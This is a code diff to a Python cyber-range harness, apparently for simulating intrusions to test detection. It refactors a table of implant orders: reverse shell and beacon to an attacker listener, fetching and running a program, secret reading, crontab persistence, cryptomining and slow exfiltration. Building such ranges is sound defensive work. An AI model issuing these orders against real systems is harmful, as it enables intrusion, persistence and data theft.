@@ -11,10 +11,11 @@ from typing import Any, ClassVar, Generic
 
 from service_clients import Client
 
+from baseline.demo.attacker import ADDRESS
 from baseline.demo.service import Step
 from baseline.demo.services import AnyServer
 from baseline.errors import BaselineError
-from ranges.intruder import ADDRESS, Implant, Intruder
+from ranges.intruder import Implant, Intruder
 
 PARENT = "baseline-range"
 """Folder of all cgroups of the range."""
@@ -91,27 +92,29 @@ class Target(ABC, Generic[AnyServer]):
         """Technique -> what an implant does of it, once it is inside."""
         listener = f"{ADDRESS} {intruder.listener}"
         tool, crontabs = self.scratch() / "tool", self.scratch() / "cron.d"
+        secrets = " ".join(SECRETS)
         wanted = {
-            "shell": ("a helper starts a shell", "shell"),
-            "reverse": ("a helper gives a shell away over a connection", f"reverse {listener}"),
-            "beacon": ("a helper asks its master for orders", f"beacon {listener}"),
-            "fetch": (
-                "a helper downloads a program and runs it",
-                f"fetch {ADDRESS} {intruder.web} {tool}",
-            ),
-            "memfd": ("a helper runs a program from memory", "memfd"),
-            "scan": ("a helper scans 200 ports", "scan 127.0.0.77 20 219"),
-            "mine": ("a helper mines for 5 s", f"mine {listener} 5"),
-            "ptrace": ("a helper reads the service's memory by ptrace", f"ptrace {self.victim()}"),
-            "unshare": ("a helper tries namespaces and mounts of its own", "unshare"),
-            "secrets": ("a helper reads secrets", " ".join(["secrets", *SECRETS])),
-            "cron": ("a helper leaves a crontab", f"cron {crontabs}"),
-            "exfiltrate": ("a helper sends data away slowly", f"exfiltrate {listener} 8"),
-            "uring": ("a helper reads secrets by io_uring", " ".join(["uring", *SECRETS])),
+            "shell": ("starts a shell", ""),
+            "reverse": ("gives a shell away over a connection", listener),
+            "beacon": ("asks its master for orders", listener),
+            "fetch": ("downloads a program and runs it", f"{ADDRESS} {intruder.web} {tool}"),
+            "memfd": ("runs a program from memory", ""),
+            "scan": ("scans 200 ports", "127.0.0.77 20 219"),
+            "mine": ("mines for 5 s", f"{listener} 5"),
+            "ptrace": ("reads the service's memory by ptrace", "{victim}"),
+            "unshare": ("tries namespaces and mounts of its own", ""),
+            "secrets": ("reads secrets", secrets),
+            "cron": ("leaves a crontab", str(crontabs)),
+            "exfiltrate": ("sends data away slowly", f"{listener} 8"),
+            "uring": ("reads secrets by io_uring", secrets),
         }
+
+        def order(technique: str, words: str) -> None:
+            intruder.order(self.name, f"{technique} {words.format(victim=self.victim())}")
+
         return {
-            technique: Step(title, partial(intruder.order, self.name, order))
-            for technique, (title, order) in wanted.items()
+            technique: Step(f"a helper {what}", partial(order, technique, words))
+            for technique, (what, words) in wanted.items()
         }
 
     def scenarios(self, intruder: Intruder) -> list[Step]:
